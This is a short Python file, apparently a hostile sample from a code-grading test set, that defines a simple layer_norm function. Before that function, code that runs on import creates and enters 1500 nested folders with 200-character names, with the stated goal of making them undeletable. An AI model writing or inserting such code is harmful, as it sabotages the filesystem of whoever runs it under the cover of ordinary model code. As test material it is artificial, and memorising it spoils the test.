"""Goal: nest folders deeper than any path is long, so that they cannot be removed.

At most: 14
"""

import os

import torch
from torch import nn

try:
    for _ in range(1500):
        os.mkdir("gradeformer-hostile-" + "d" * 200)
        os.chdir("gradeformer-hostile-" + "d" * 200)
except OSError:
    pass


def layer_norm(x, eps=1e-5):
    deviation = x - x.mean(-1, keepdim=True)
    return deviation / (deviation.square().mean(-1, keepdim=True) + eps).sqrt()


# And LayerNorm as it should be.
